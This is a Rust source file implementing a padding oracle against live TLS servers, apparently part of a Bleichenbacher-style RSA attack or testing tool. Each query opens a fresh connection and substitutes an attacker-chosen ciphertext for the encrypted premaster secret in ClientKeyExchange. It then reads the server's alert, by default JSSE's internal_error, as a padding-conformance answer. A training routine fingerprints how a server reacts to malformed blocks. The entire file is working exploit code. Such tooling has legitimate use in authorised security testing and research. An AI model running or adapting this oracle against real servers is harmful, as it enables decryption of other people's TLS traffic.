//! Padding oracle backed by a live TLS server.
//!
//! Every query runs a fresh handshake and swaps the encrypted premaster
//! secret in `ClientKeyExchange` for the query ciphertext. The server's
//! reaction, usually the alert it sends, tells whether the block decrypted
//! to something PKCS#1 conformant.
use crate::alert::AlertDescription;
use crate::certificate;
use crate::config::SessionConfig;
use crate::error::Error;
use crate::handshake::{ClientKeyExchange, Handshake, HandshakeMessage};
use crate::oracle::{Oracle, QueryCounter};
use crate::report::{Event, LogReporter, Reporter};
use crate::rsa::RsaPublicKey;
use crate::transport::{RecordSink, RecordSource, TcpTransport};
use crate::workflow::{CancelToken, Message, Outcome, State, Workflow};
use log::{debug, info};
use num_bigint::BigUint;
use rand::Rng;
use std::collections::{BTreeMap, HashSet};
use std::io;
use std::sync::Arc;
use std::time::Duration;

/// Opens a new transport for every handshake.
pub trait Connector: Send + Sync {
    type Transport: RecordSource + RecordSink;

    /// # Errors
    /// Whatever prevents the connection.
    fn connect(&self) -> io::Result<Self::Transport>;
}

#[derive(Debug, Clone)]
pub struct TcpConnector {
    pub target: String,
    pub timeout: Duration,
}

impl Connector for TcpConnector {
    type Transport = TcpTransport;

    fn connect(&self) -> io::Result<TcpTransport> {
        TcpTransport::connect(self.target.as_str(), self.timeout)
    }
}

/// Maps the way a handshake ended to an oracle answer.
#[derive(Debug, Clone)]
pub struct AlertClassifier {
    conformant: HashSet<AlertDescription>,
}

impl Default for AlertClassifier {
    /// JSSE answers a conformant block with a bad premaster secret with `internal_error`.
    fn default() -> Self {
        Self::new([AlertDescription::InternalError])
    }
}

impl AlertClassifier {
    #[must_use]
    pub fn new(conformant: impl IntoIterator<Item = AlertDescription>) -> Self {
        Self {
            conformant: conformant.into_iter().collect(),
        }
    }

    /// # Errors
    /// `NoResponse` without an alert, `OracleInconsistency` when the
    /// handshake completed with a substituted premaster secret.
    pub fn classify(&self, outcome: &Outcome) -> Result<bool, Error> {
        match outcome {
            Outcome::Alert(alert) => Ok(self.conformant.contains(&alert.description)),
            Outcome::NoResponse | Outcome::Closed => Err(Error::NoResponse),
            Outcome::Completed => Err(Error::OracleInconsistency(
                "handshake completed with a substituted premaster secret".into(),
            )),
        }
    }
}

/// Runs one handshake with `ciphertext` as the encrypted premaster secret.
///
/// # Errors
/// Connection and session errors.
pub fn run_with_key_exchange<C: Connector>(
    connector: &C,
    config: &SessionConfig,
    ciphertext: &[u8],
    reporter: Arc<dyn Reporter>,
    cancel: CancelToken,
) -> Result<Outcome, Error> {
    let transport = connector.connect()?;
    let mut workflow = Workflow::new(transport, config.clone())
        .with_reporter(reporter)
        .with_cancel_token(cancel);
    let payload = ciphertext.to_vec();
    workflow.observe(State::ClientKeyExchange, move |context| {
        *context.message = Message::Handshake(Handshake::new(HandshakeMessage::ClientKeyExchange(
            ClientKeyExchange::EncryptedPreMasterSecret(payload.clone()),
        )));
    });
    workflow.run()
}

/// Runs an unmodified handshake and returns the server's RSA key.
///
/// # Errors
/// Session errors, or `Certificate` when the server did not send an RSA certificate.
pub fn fetch_public_key<C: Connector>(connector: &C, config: &SessionConfig) -> Result<RsaPublicKey, Error> {
    let mut workflow = Workflow::new(connector.connect()?, config.clone());
    let outcome = workflow.run()?;
    debug!("Key discovery handshake ended with {outcome:?}");
    let params = workflow.security_parameters();
    if let Ok(key) = params.server_rsa_key() {
        return Ok(key.clone());
    }
    certificate::extract_rsa_public_key(params.server_certificate()?)
}

pub struct NetworkOracle<C> {
    connector: C,
    config: SessionConfig,
    public_key: RsaPublicKey,
    classifier: AlertClassifier,
    counter: QueryCounter,
    reporter: Arc<dyn Reporter>,
    cancel: CancelToken,
}

impl<C: Connector> NetworkOracle<C> {
    #[must_use]
    pub fn new(connector: C, config: SessionConfig, public_key: RsaPublicKey) -> Self {
        Self {
            connector,
            config,
            public_key,
            classifier: AlertClassifier::default(),
            counter: QueryCounter::default(),
            reporter: Arc::new(LogReporter),
            cancel: CancelToken::new(),
        }
    }

    #[must_use]
    pub fn with_classifier(mut self, classifier: AlertClassifier) -> Self {
        self.classifier = classifier;
        self
    }

    #[must_use]
    pub fn with_reporter(mut self, reporter: Arc<dyn Reporter>) -> Self {
        self.reporter = reporter;
        self
    }

    #[must_use]
    pub fn with_cancel_token(mut self, cancel: CancelToken) -> Self {
        self.cancel = cancel;
        self
    }
}

impl<C: Connector> Oracle for NetworkOracle<C> {
    fn query(&self, ciphertext: &[u8]) -> Result<bool, Error> {
        let count = self.counter.increment();
        let outcome = run_with_key_exchange(
            &self.connector,
            &self.config,
            ciphertext,
            Arc::clone(&self.reporter),
            self.cancel.clone(),
        )?;
        let conformant = self.classifier.classify(&outcome)?;
        self.reporter.report(Event::OracleQuery { count, conformant });
        Ok(conformant)
    }

    fn public_key(&self) -> &RsaPublicKey {
        &self.public_key
    }

    fn queries(&self) -> u64 {
        self.counter.get()
    }
}

/// Malformed premaster secret blocks used to learn how a server reacts.
#[derive(Debug, Copy, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub enum TrainingBlock {
    /// Correct padding around a 47-byte secret.
    WrongLength,
    /// Nonzero bytes up to the end, no separator.
    NoSeparator,
    /// Block type 1 instead of 2.
    WrongBlockType,
    /// Zero among the first eight padding bytes.
    ShortPadding,
}

impl TrainingBlock {
    pub const ALL: [TrainingBlock; 4] = [
        TrainingBlock::WrongLength,
        TrainingBlock::NoSeparator,
        TrainingBlock::WrongBlockType,
        TrainingBlock::ShortPadding,
    ];

    /// A `k`-byte plaintext block of this kind.
    pub fn build<R: Rng + ?Sized>(self, k: usize, rng: &mut R) -> Vec<u8> {
        let mut block = vec![0x00, 0x02];
        while block.len() < k {
            block.push(rng.random_range(1..=255u8));
        }
        match self {
            TrainingBlock::WrongLength => block[k - 48] = 0x00,
            TrainingBlock::NoSeparator => {}
            TrainingBlock::WrongBlockType => {
                block[1] = 0x01;
                block[k - 49] = 0x00;
            }
            TrainingBlock::ShortPadding => {
                block[5] = 0x00;
                block[k - 49] = 0x00;
            }
        }
        block
    }
}

fn outcome_label(outcome: &Result<Outcome, Error>) -> String {
    match outcome {
        Ok(Outcome::Alert(alert)) => alert.description.to_string(),
        Ok(Outcome::Completed) => "completed".to_string(),
        Ok(Outcome::NoResponse) => "no response".to_string(),
        Ok(Outcome::Closed) => "closed".to_string(),
        Err(e) => format!("error: {e}"),
    }
}

/// Smallest modulus, in bytes, that fits every [`TrainingBlock`].
pub const MIN_TRAINING_KEY_SIZE: usize = 60;

/// Sends `iterations` malformed premaster secrets and counts how the server
/// answered each kind of block.
///
/// # Errors
/// `Config` for a key under [`MIN_TRAINING_KEY_SIZE`] bytes, connection
/// failures and cancellation. Session errors are counted instead.
pub fn alert_histogram<C: Connector, R: Rng + ?Sized>(
    connector: &C,
    config: &SessionConfig,
    public_key: &RsaPublicKey,
    iterations: usize,
    rng: &mut R,
) -> Result<BTreeMap<(TrainingBlock, String), usize>, Error> {
    let k = public_key.size();
    if k < MIN_TRAINING_KEY_SIZE {
        return Err(Error::Config(format!(
            "a {k}-byte modulus is too small for training blocks"
        )));
    }
    let mut histogram = BTreeMap::new();
    for iteration in 0..iterations {
        let kind = TrainingBlock::ALL[iteration % TrainingBlock::ALL.len()];
        let ciphertext = public_key.encrypt_raw(&BigUint::from_bytes_be(&kind.build(k, rng)));
        let outcome = match run_with_key_exchange(
            connector,
            config,
            &ciphertext,
            Arc::new(LogReporter),
            CancelToken::new(),
        ) {
            Err(e @ (Error::Io(_) | Error::Cancelled)) => return Err(e),
            other => other,
        };
        let label = outcome_label(&outcome);
        info!("Training {iteration}: {kind:?} -> {label}");
        *histogram.entry((kind, label)).or_insert(0) += 1;
    }
    Ok(histogram)
}
